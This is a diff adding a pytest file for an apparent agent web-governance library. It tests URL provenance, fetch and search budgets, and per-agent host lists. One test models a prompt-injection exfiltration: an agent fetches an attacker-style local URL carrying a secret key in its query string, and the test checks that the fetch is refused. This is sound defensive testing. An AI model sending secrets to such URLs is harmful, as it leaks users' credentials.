@@ -1,0 +1,465 @@
+"""Governance per agent and session, through ``Web``: URL provenance (``url_not_in_session``),
+budgets (``budget_exhausted``) and each agent's own host and search lists.
+
+The public web is a loopback server on 127.0.0.1; an exfiltration target is an accept-counting
+listener on 127.0.0.2, inside ``allow_ranges`` so that only provenance stands in its way, and
+its ``accepts`` prove that nothing connected.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from fake_search import BRAVE_PATH, FakeBrave
+from localserver import LocalServer, accept_counter, redirect, respond, serve
+
+from webward import Refused, Settings, StaticResolver, Web
+from webward._budgets import budget_usage
+from webward._credentials import EnvironmentStore
+from webward._limit_state import SQLiteLimitState
+from webward._provenance import MemorySessionStore, canonical, urls_in
+from webward._redis import RedisLimitState
+from webward.testing import FakeClock, MemoryAuditSink
+
+SRC = Path(__file__).resolve().parents[1] / "src"
+BRAVE_KEY = "BSAsessions0123456789key"
+SECRET = "sk-live-4f9a0c2e"
+
+
+def settings(agent: dict[str, Any] | None = None, **sections: Any) -> Settings:
+    """Loopback (127.0.0.1 and .2) allowed, tier connected, robots off, generous limits;
+    the agent "bot" with ``agent``'s settings."""
+    base: dict[str, Any] = {
+        "network": {"allow_ranges": ["127.0.0.1/32", "127.0.0.2/32"]},
+        "policy": {"default_tier": "connected", "robots": False},
+        "limits": {"per_host_rate": 1000.0, "per_host_burst": 1000},
+        "agents": {"bot": {"tier": "connected", **(agent or {})}},
+    }
+    for name, values in sections.items():
+        base[name] = {**base.get(name, {}), **values}
+    return Settings().replace(base)
+
+
+def web(s: Settings, audit: MemoryAuditSink | None = None, **kw: Any) -> Web:
+    kw.setdefault("credentials", EnvironmentStore({"BRAVE_SEARCH_API_KEY": BRAVE_KEY}))
+    kw.setdefault("clock", FakeClock())
+    return Web(s, StaticResolver({}), audit=audit or MemoryAuditSink(), **kw)
+
+
+@pytest.fixture
+def attacker() -> Iterator[LocalServer]:
+    with accept_counter("127.0.0.2") as server:
+        server.routes["*"] = respond(200, "thanks for the secret")
+        yield server
+
+
+@pytest.fixture
+def site() -> Iterator[LocalServer]:
+    with serve() as server:
+        server.routes["/start"] = respond(
+            200,
+            "<html><body><p>Read <a href='/next?page=2'>the next page</a>. Also see "
+            f"{server.url('/plain')} for more.</p></body></html>",
+            "text/html",
+        )
+        for path in ("/next", "/plain", "/hit", "/other", "/final"):
+            server.routes[path] = respond(200, f"<p>page {path}</p>", "text/html")
+        server.routes["/hop"] = redirect(server.url("/final"))
+        yield server
+
+
+@pytest.fixture
+def brave(site: LocalServer) -> Iterator[LocalServer]:
+    items = [{"title": "Hit", "url": site.url("/hit"), "snippet": "a hit", "published": None}]
+    with serve(routes={BRAVE_PATH: FakeBrave(items, BRAVE_KEY)}) as server:
+        yield server
+
+
+# ---- URL provenance --------------------------------------------------------------------------
+
+
+def test_canonical_form_and_urls_in_text() -> None:
+    """Scheme and host fold, the default port and fragment go; path and query stay exact."""
+    assert canonical("HTTP://Example.ORG:80/a?b=1#frag") == "http://example.org/a?b=1"
+    assert canonical("https://example.org/a?b=1") != canonical("https://example.org/a?b=2")
+    assert canonical("ftp://example.org/") is None
+    text = "See https://a.example/x?y=1. And (http://b.example/z), not mailto:c@d.example."
+    assert urls_in(text) == ["https://a.example/x?y=1", "http://b.example/z"]
+
+
+@pytest.mark.anyio
+async def test_unseen_url_with_a_secret_is_refused_and_audited(
+    site: LocalServer, attacker: LocalServer
+) -> None:
+    """The injection's URL was never seen: refused by name, audited, and nothing connects.
+    The same URL with another query string is another URL."""
+    audit = MemoryAuditSink()
+    s = settings({"provenance": "session"})
+    async with web(s, audit) as w:
+        await w.declare_urls("s1", f"Summarise {site.url('/start')} please")
+        await w.declare_urls("s1", attacker.url("/?q="))  # the bare prefix, no secret
+        page = await w.fetch(site.url("/start"), agent="bot", session="s1")
+        assert "next page" in page.content
+        with pytest.raises(Refused) as err:
+            await w.fetch(attacker.url(f"/?q={SECRET}"), agent="bot", session="s1")
+    assert attacker.accepts == 0
+    assert err.value.reason == "url_not_in_session"
+    message = err.value.message
+    assert message.startswith(f"refused: {attacker.url(f'/?q={SECRET}')} is not a URL this")
+    assert "session s1 has not seen it" in message
+    assert "[policy] allow" in message and 'provenance = "off" in [agents.bot]' in message
+    assert [(r.decision, r.reason) for r in audit.records] == [
+        ("allowed", "allowed"),
+        ("refused", "url_not_in_session"),
+    ]
+
+
+@pytest.mark.anyio
+async def test_links_text_hits_and_redirects_of_the_session_are_allowed(
+    site: LocalServer, brave: LocalServer
+) -> None:
+    """A read page's links and the URLs in its text, a search hit, and a redirect's target
+    (which needs no provenance) are allowed; another session has seen none of them."""
+    s = settings({"provenance": "session"}, search={"provider": "brave", "brave_url": brave.base})
+    async with web(s) as w:
+        await w.declare_urls("s1", site.url("/start"), site.url("/hop"))
+        await w.fetch(site.url("/start"), agent="bot", session="s1")
+        await w.fetch(site.url("/next?page=2"), agent="bot", session="s1")  # a link
+        await w.fetch(site.url("/plain"), agent="bot", session="s1")  # text of the page
+        hop = await w.fetch(site.url("/hop"), agent="bot", session="s1")  # redirect
+        assert hop.final_url == site.url("/final")
+        with pytest.raises(Refused) as err:
+            await w.fetch(site.url("/hit"), agent="bot", session="s1")
+        assert err.value.reason == "url_not_in_session"
+        result = await w.search("hits", agent="bot", session="s1")
+        assert [h.url for h in result.hits] == [site.url("/hit")]
+        await w.fetch(site.url("/hit"), agent="bot", session="s1")  # now a search hit
+        await w.fetch(site.url("/final"), agent="bot", session="s1")  # seen as the redirect
+        for url in (site.url("/next?page=3"), site.url("/plain")):
+            with pytest.raises(Refused):  # another query; another session
+                await w.fetch(url, agent="bot", session="s1" if "page=3" in url else "s2")
+        with pytest.raises(Refused) as none:
+            await w.fetch(site.url("/start"), agent="bot")
+        assert "the call names no session" in none.value.message
+
+
+@pytest.mark.anyio
+async def test_allow_list_hosts_pass_and_other_agents_are_untouched(site: LocalServer) -> None:
+    """[policy] allow hosts always pass; an agent without provenance reads as before."""
+    s = settings({"provenance": "session"}, policy={"allow": ["127.0.0.1"]})
+    async with web(s) as w:
+        await w.fetch(site.url("/other"), agent="bot", session="s1")
+    async with web(settings({"provenance": "session"})) as w:
+        await w.fetch(site.url("/other"), agent="cli")
+
+
+@pytest.mark.anyio
+async def test_report_mode_logs_would_refuse(site: LocalServer, attacker: LocalServer) -> None:
+    """In report mode the unseen URL is read, and the audit says enforce would refuse it."""
+    audit = MemoryAuditSink()
+    s = settings({"provenance": "session"}, policy={"mode": "report"})
+    async with web(s, audit) as w:
+        await w.fetch(attacker.url("/?q=x"), agent="bot", session="s1")
+    assert attacker.accepts == 1
+    assert [(r.decision, r.would_deny) for r in audit.records] == [
+        ("report-would-deny", "url_not_in_session")
+    ]
+
+
+@pytest.mark.anyio
+async def test_sessions_are_bounded_in_size_and_age() -> None:
+    clock = FakeClock()
+    store = MemorySessionStore(max_urls=2, max_age_s=60, max_sessions=2, clock=clock)
+    await store.add("a", ["http://x.example/1", "http://x.example/2", "http://x.example/3"])
+    assert not await store.has("a", "http://x.example/1")  # the oldest went first
+    assert await store.has("a", "http://x.example/3")
+    clock.advance(61)
+    assert not await store.has("a", "http://x.example/3")  # idle too long: forgotten whole
+    for name in ("b", "c", "d"):
+        await store.add(name, ["http://x.example/1"])
+    assert not await store.has("b", "http://x.example/1")  # at most two sessions
+    assert await store.has("d", "http://x.example/1")
+
+
+@pytest.mark.anyio
+async def test_replicas_share_sessions_through_redis(site: LocalServer, redis_url: str) -> None:
+    """A URL one replica saw is known to the other."""
+    s = settings({"provenance": "session"}, state={"redis_url": redis_url})
+    async with web(s) as one, web(s) as two:
+        await one.declare_urls("shared", site.url("/start"))
+        await one.fetch(site.url("/start"), agent="bot", session="shared")
+        await two.fetch(site.url("/next?page=2"), agent="bot", session="shared")
+        with pytest.raises(Refused):
+            await two.fetch(site.url("/other"), agent="bot", session="shared")
+
+
+# ---- budgets ---------------------------------------------------------------------------------
+
+
+@pytest.mark.anyio
+async def test_fetch_budgets_per_session_and_hour_renew(site: LocalServer) -> None:
+    """Past a budget: budget_exhausted, with when it renews; a refused call costs nothing."""
+    clock = FakeClock(start=7200.0)  # 02:00:00 UTC on 1970-01-01
+    audit = MemoryAuditSink()
+    s = settings({"budget": {"fetch_per_session": 2, "fetch_per_hour": 3}})
+    async with web(s, audit, clock=clock) as w:
+        await w.fetch(site.url("/next"), agent="bot", session="a")
+        await w.fetch(site.url("/next"), agent="bot", session="a")
+        with pytest.raises(Refused) as per_session:
+            await w.fetch(site.url("/next"), agent="bot", session="a")
+        await w.fetch(site.url("/next"), agent="bot", session="b")
+        with pytest.raises(Refused) as per_hour:
+            await w.fetch(site.url("/next"), agent="bot", session="c")
+        usage = {
+            (r["scope"], r["used"]) for r in await budget_usage(s, w._budgets._state, clock=clock)
+        }
+        assert usage == {("hour", 3.0)}
+        clock.advance(3600)
+        await w.fetch(site.url("/next"), agent="bot", session="c")
+    assert per_session.value.reason == "budget_exhausted"
+    assert per_session.value.message == (
+        "refused: agent bot has used its budget of 2 fetch calls per session; it does not "
+        "renew within this session; start a new session, or raise [agents.bot.budget] "
+        "fetch_per_session"
+    )
+    assert "it renews at 1970-01-01T03:00:00Z" in per_hour.value.message
+    assert [r.reason for r in audit.records].count("budget_exhausted") == 2
+
+
+@pytest.mark.anyio
+async def test_search_calls_and_spend_budgets(brave: LocalServer) -> None:
+    """Each provider call costs [search.brave] cost; past the spend budget nothing is sent."""
+    s = settings(
+        {"budget": {"search_spend_per_day": 0.025, "search_per_session": 10}},
+        search={"provider": "brave", "brave_url": brave.base, "brave": {"cost": 0.01}},
+    )
+    async with web(s) as w:
+        await w.search("one", agent="bot", session="s")
+        await w.search("two", agent="bot", session="s")
+        with pytest.raises(Refused) as err:
+            await w.search("three", agent="bot", session="s")
+    assert err.value.reason == "budget_exhausted"
+    assert err.value.message.startswith(
+        "refused: agent bot has used its search spend budget of 0.025 per day; it renews at "
+    )
+    assert err.value.message.endswith("or raise [agents.bot.budget] search_spend_per_day")
+    assert len(brave.requests) == 2
+
+
+def _cli(config: Path, state: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    env = {
+        "PATH": os.environ.get("PATH", ""),
+        "PYTHONPATH": str(SRC),
+        "WEBWARD_STATE_DIR": str(state),
+        "XDG_CONFIG_HOME": str(state / "xdg"),
+        "PYTHON_KEYRING_BACKEND": "keyring.backends.null.Keyring",
+    }
+    return subprocess.run(
+        [sys.executable, "-m", "webward.cli", *args, "--config", str(config)],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=120,
+    )
+
+
+def test_two_processes_share_one_budget_through_sqlite(tmp_path: Path, site: LocalServer) -> None:
+    """Two `webward fetch` processes spend one day budget kept in limits.db; --session names
+    the session; the audit's usage summary counts both calls."""
+    config = tmp_path / "webward.toml"
+    config.write_text(
+        '[network]\nallow_ranges = ["127.0.0.1/32"]\n[policy]\nrobots = false\n'
+        '[agents.bot]\ntier = "connected"\nprovenance = "session"\n'
+        "[agents.bot.budget]\nfetch_per_day = 1\n",
+        encoding="utf-8",
+    )
+    state = tmp_path / "state"
+    first = _cli(config, state, "fetch", site.url("/next"), "--agent", "bot", "--session", "s")
+    assert first.returncode == 0, first.stderr
+    second = _cli(config, state, "fetch", site.url("/next"), "--agent", "bot", "--session", "t")
+    assert second.returncode == 3
+    assert "has used its budget of 1 fetch calls per day; it renews at " in second.stderr
+    usage = _cli(config, state, "audit", "--usage", "--json")
+    assert usage.returncode == 0, usage.stderr
+    assert json.loads(usage.stdout) == [
+        {
+            "agent": "bot",
+            "capability": "web:page.fetch@1",
+            "calls": 2,
+            "spend": 0.0,
+            "allowed": 1,
+            "report-would-deny": 0,
+            "refused": 1,
+            "failed": 0,
+        }
+    ]
+    table = _cli(config, state, "audit", "--usage")
+    row = ["bot", "web:page.fetch@1", "2", "1", "0", "1", "0", "0"]
+    assert table.stdout.splitlines()[1].split() == row
+
+
+@pytest.mark.anyio
+async def test_two_replicas_share_one_budget_through_redis(
+    site: LocalServer, redis_url: str
+) -> None:
+    s = settings({"budget": {"fetch_per_hour": 3}}, state={"redis_url": redis_url})
+    async with (
+        web(s, limit_state=RedisLimitState(redis_url)) as one,
+        web(s, limit_state=RedisLimitState(redis_url)) as two,
+    ):
+        await one.fetch(site.url("/next"), agent="bot")
+        await two.fetch(site.url("/next"), agent="bot")
+        await one.fetch(site.url("/next"), agent="bot")
+        with pytest.raises(Refused) as err:
+            await two.fetch(site.url("/next"), agent="bot")
+    assert err.value.reason == "budget_exhausted"
+
+
+@pytest.mark.anyio
+async def test_sqlite_budget_is_one_counter_for_two_stores(
+    tmp_path: Path, site: LocalServer
+) -> None:
+    """A session's counter survives a new connection's pruning of idle rows."""
+    s = settings({"budget": {"fetch_per_day": 2, "fetch_per_session": 1}})
+    async with web(s, limit_state=SQLiteLimitState(tmp_path), clock=time.time) as one:
+        await one.fetch(site.url("/next"), agent="bot", session="s")
+    async with web(s, limit_state=SQLiteLimitState(tmp_path), clock=time.time) as two:
+        with pytest.raises(Refused) as session:
+            await two.fetch(site.url("/next"), agent="bot", session="s")
+        await two.fetch(site.url("/next"), agent="bot", session="t")
+        with pytest.raises(Refused) as day:
+            await two.fetch(site.url("/next"), agent="bot", session="u")
+    assert "per session" in session.value.message and "per day" in day.value.message
+
+
+# ---- lists per agent -------------------------------------------------------------------------
+
+
+@pytest.mark.anyio
+async def test_agent_deny_wins_and_the_refusal_names_the_list(
+    site: LocalServer, attacker: LocalServer
+) -> None:
+    s = settings({"allow": ["127.0.0.1", "127.0.0.2"], "deny": ["127.0.0.2"]})
+    async with web(s) as w:
+        await w.fetch(site.url("/next"), agent="bot")
+        with pytest.raises(Refused) as denied:
+            await w.fetch(attacker.url("/"), agent="bot")
+        await w.fetch(attacker.url("/"), agent="cli")  # another agent: its lists only
+    assert attacker.accepts == 1
+    assert denied.value.reason == "host_denied"
+    assert "(127.0.0.2 in [agents.bot] deny)" in denied.value.message
+
+
+@pytest.mark.anyio
+async def test_agent_allow_limits_reads_and_redirect_hops(
+    site: LocalServer, attacker: LocalServer
+) -> None:
+    site.routes["/away"] = redirect(attacker.url("/"))
+    s = settings({"allow": ["127.0.0.1"]})
+    async with web(s) as w:
+        with pytest.raises(Refused) as direct:
+            await w.fetch(attacker.url("/"), agent="bot")
+        with pytest.raises(Refused) as hop:
+            await w.fetch(site.url("/away"), agent="bot")
+    assert attacker.accepts == 0
+    for err in (direct, hop):
+        assert err.value.reason == "host_not_allowed"
+        assert "not on the allow-list of agent bot ([agents.bot] allow)" in err.value.message
+
+
+@pytest.mark.anyio
+async def test_agent_search_lists_filter_hits(site: LocalServer) -> None:
+    items = [
+        {"title": "A", "url": site.url("/hit"), "snippet": "", "published": None},
+        {"title": "B", "url": "https://docs.example.org/b", "snippet": "", "published": None},
+        {"title": "C", "url": "https://ads.example.org/c", "snippet": "", "published": None},
+        {"title": "D", "url": "https://elsewhere.example/d", "snippet": "", "published": None},
+    ]
+    with serve(routes={BRAVE_PATH: FakeBrave(items, BRAVE_KEY)}) as brave:
+        search = {"provider": "brave", "brave_url": brave.base}
+        lists = {"search_allow": ["*.example.org"], "search_deny": ["ads.example.org"]}
+        async with web(settings(lists, search=search)) as w:
+            result = await w.search("q", agent="bot")
+            other = await w.search("q", agent="cli")
+    assert [h.url for h in result.hits] == ["https://docs.example.org/b"]
+    assert len(other.hits) == 4
+
+
+# ---- configuration ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("overrides", "message"),
+    [
+        ({"agents": {"a": {"provenance": "always"}}}, "agents.a.provenance must be off or session"),
+        ({"agents": {"a": {"budget": {"fetch_per_day": -1}}}}, "holds a negative budget"),
+        ({"agents": {"a": {"budget": {"fetch_per_week": 1}}}}, "agents.a.budget.fetch_per_week"),
+        ({"search": {"brave": {"cost": -0.5}}}, "search.brave.cost must be a number >= 0"),
+        ({"search": {"brave": {"price": 1}}}, "unknown config key search.brave.price"),
+    ],
+)
+def test_bad_governance_settings_are_refused_on_load(
+    overrides: dict[str, Any], message: str
+) -> None:
+    from webward import InvalidInput
+
+    with pytest.raises(InvalidInput) as err:
+        Settings().replace(overrides)
+    assert message in err.value.message
+
+
+def test_bad_agent_patterns_are_refused_when_the_web_is_built() -> None:
+    from webward import InvalidInput
+
+    with pytest.raises(InvalidInput) as err:
+        Web(settings({"deny": ["*"]}), StaticResolver({}), audit=MemoryAuditSink())
+    assert "agents.bot.deny holds '*'" in err.value.message
+
+
+@pytest.mark.anyio
+async def test_report_mode_lets_agent_lists_through_and_says_so(attacker: LocalServer) -> None:
+    audit = MemoryAuditSink()
+    async with web(settings({"deny": ["127.0.0.2"]}, policy={"mode": "report"}), audit) as w:
+        await w.fetch(attacker.url("/"), agent="bot")
+    assert [(r.decision, r.would_deny) for r in audit.records] == [
+        ("report-would-deny", "host_denied")
+    ]
+
+
+@pytest.mark.anyio
+async def test_a_bad_session_name_is_refused_by_name(site: LocalServer) -> None:
+    from webward import InvalidInput
+
+    audit = MemoryAuditSink()
+    async with web(settings(), audit) as w:
+        for bad in ("", "x" * 513, "a\nb"):
+            with pytest.raises(InvalidInput) as err:
+                await w.fetch(site.url("/next"), agent="bot", session=bad)
+            assert err.value.message == "a session must be named by 1 to 512 printable characters"
+            with pytest.raises(InvalidInput):
+                await w.search("q", agent="bot", session=bad)
+    assert site.accepts == 0
+    assert {r.decision for r in audit.records} == {"refused"} and len(audit.records) == 6
+
+
+def test_agent_search_lists_count_what_each_list_dropped() -> None:
+    from webward._policy import AgentLists
+    from webward._settings import AgentSettings
+
+    agents = {
+        "bot": AgentSettings(search_allow=("*.example.org",), search_deny=("ads.example.org",))
+    }
+    hosts = ["docs.example.org", "ads.example.org", "other.example", None]
+    for report, kept in ((False, ["docs.example.org"]), (True, hosts)):
+        lists = AgentLists(agents, report=report)
+        got, dropped = lists.filter_hits(hosts, lambda h: h, "bot")
+        assert got == kept
+        assert dropped == {"agents.bot.search_deny": 2, "agents.bot.search_allow": 1}
